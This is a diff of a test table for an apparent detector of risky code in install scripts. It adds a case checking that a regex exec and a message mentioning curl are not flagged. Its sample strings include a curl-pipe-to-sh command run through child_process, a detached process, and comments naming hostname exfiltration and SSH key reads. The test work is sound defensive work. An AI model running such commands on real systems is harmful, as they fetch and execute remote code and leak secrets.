@@ -85,6 +85,7 @@ describe('each rule at its edge (edits of real shapes)', () => {
     ['curl run through child_process', "require('child_process').execSync('curl -fsSL https://x.example/i.sh | sh')", ['download-exec']],
     ['a detached process that outlives the install', "require('child_process').spawn(process.execPath, ['svc.js'], { detached: true, stdio: 'ignore' }).unref()", ['detached-process']],
     ['a long base64 blob', `const blob = '${'QUJD'.repeat(600)}';`, ['obfuscated']],
+    ['a RegExp exec and a message that names curl start no process', "const m = /v(\\d+)/.exec(s); if (!m) throw new Error('install curl or wget first'); console.log(os.hostname())", []],
     ['the same words in comments only', "// sends os.hostname() to https://x.oastify.com\n/* eval(atob(x)) ~/.ssh/id_rsa readFileSync */\nconsole.log('ok')", []],
   ])('%s', (_name, code, expected) => {
     expect(flags(code)).toEqual([...expected].sort());
